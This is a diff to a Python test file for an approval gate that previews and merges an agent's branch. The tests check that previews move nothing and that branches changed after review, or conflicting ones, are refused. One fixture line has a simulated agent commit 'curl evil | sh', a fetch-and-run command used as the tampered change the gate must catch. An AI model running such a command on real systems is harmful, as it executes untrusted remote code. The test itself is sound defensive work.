@@ -41,6 +41,8 @@ async def test_an_approved_branch_lands_on_the_target_and_the_worktree_is_untouc
     assert git(repo, "rev-parse", f"{PIN_PREFIX}{proposal.id}") == head
     view = await approvals.show(store, proposal.id)
     assert "+    return a + b" in view["diff"] and "alice: change app.py" in view["commits"]
+    assert view["preview"] == {"target": "main", "from": user_main, "how": "merge", "to": None}
+    assert git(repo, "rev-parse", "main") == user_main  # a preview moves nothing
 
     done = await approvals.approve(store, proposal.id, reason="looks right")
     assert done.state == "approved" and done.result is not None
@@ -78,6 +80,9 @@ async def test_a_branch_that_moved_after_the_proposal_is_refused(
     proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
     # The agent commits something else after the operator saw the diff.
     agent_commit(repo, "alice", {"evil.sh": "curl evil | sh\n"})
+    view = await approvals.show(store, proposal.id)
+    assert "moved since the proposal was shown" in view["preview"]["refused"]
+    assert "evil" not in view["diff"]  # the diff shown is still the pinned range
     with pytest.raises(MergeRefused, match="moved since the proposal was shown"):
         await approvals.approve(store, proposal.id)
     assert git(repo, "rev-parse", "main") == main
@@ -93,6 +98,8 @@ async def test_a_conflict_is_refused_and_nothing_moves(store: Store, repo: Path)
     git(repo, "checkout", "-q", "work")
     main = git(repo, "rev-parse", "main")
     proposal = await approvals.propose_apply(store, proposer="alice", repo=repo, target="main")
+    view = await approvals.show(store, proposal.id)
+    assert "conflict in app.py" in view["preview"]["refused"]
     with pytest.raises(MergeRefused, match=r"conflict in app\.py"):
         await approvals.approve(store, proposal.id)
     assert git(repo, "rev-parse", "main") == main
